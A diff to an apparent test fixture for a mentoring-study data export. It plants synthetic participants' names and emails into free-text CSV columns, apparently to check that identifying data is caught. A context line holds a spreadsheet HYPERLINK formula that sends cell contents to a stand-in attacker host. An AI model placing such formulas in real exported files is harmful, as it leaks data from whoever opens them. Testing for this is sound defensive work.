@@ -19,6 +19,17 @@ SCALE = 0.2  # about 400 matches: every stage does real work, a run takes ~20 s 
 PLANTED_EMAIL = "p0000001@example.org"
 PLANTED_NAME = "Participant P0000002"
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
+# Column -> another participant's name or email typed there (participants.csv holds them all).
+TYPED = {
+    "age_band": "p0000005@example.org",
+    "career_level": "Participant P0000004",
+    "department": "Participant P0000006",
+    "survey": "Participant P0000009",
+    "item_id": "p0000010@example.org",
+    "closure_reason": "Participant P0000011",
+    "channel": "p0000012@example.org",
+    "measure": "p0000007@example.org",
+}
 
 
 def _plant(export: Path) -> None:
@@ -33,6 +44,28 @@ def _plant(export: Path) -> None:
     (export / "survey_responses_000_planted.csv").write_text(
         "response_id,participant_id,survey,submitted_at,item_id,value\n"
         f"RX0000001,P0000003,intake,2025-01-24 17:47:00,mfq_1,{quoted}\n"
+        f"RX0000002,P0000003,{TYPED['survey']},2025-02-01 10:00:00,{TYPED['item_id']},3\n"
+    )
+    # Other participants' names and emails typed into every free-text column of every table.
+    (export / "participants_000_planted.csv").write_text(
+        "participant_id,program_id,role,enrolled_on,gender,race_ethnicity,age_band,"
+        "career_level,department,first_generation,wants_same_gender_mentor,"
+        "wants_same_race_mentor,name,email\n"
+        f"PX0000001,PRG001,mentee,2025-01-02,woman,white,{TYPED['age_band']},"
+        f"{TYPED['career_level']},{TYPED['department']},0,,,Planted Mentee,px1@planted.example\n"
+    )
+    (export / "matches_000_planted.csv").write_text(
+        "match_id,program_id,mentor_id,mentee_id,matched_on,requested_on,ended_on,"
+        "match_source,closure_reason\n"
+        f"MX0000001,PRG001,P0000001,PX0000001,2025-01-10,,2025-03-01,assigned,"
+        f"{TYPED['closure_reason']}\n"
+    )
+    (export / "activities_000_planted.csv").write_text(
+        "activity_id,match_id,occurred_at,kind,from_role,channel\n"
+        f"AX0000001,MX0000001,2025-01-20 10:00:00,thank_you,mentee,{TYPED['channel']}\n"
+    )
+    (export / "outcomes_000_planted.csv").write_text(
+        f"participant_id,measure,value,observed_on\nPX0000001,{TYPED['measure']},1,2025-06-01\n"
     )
 
 
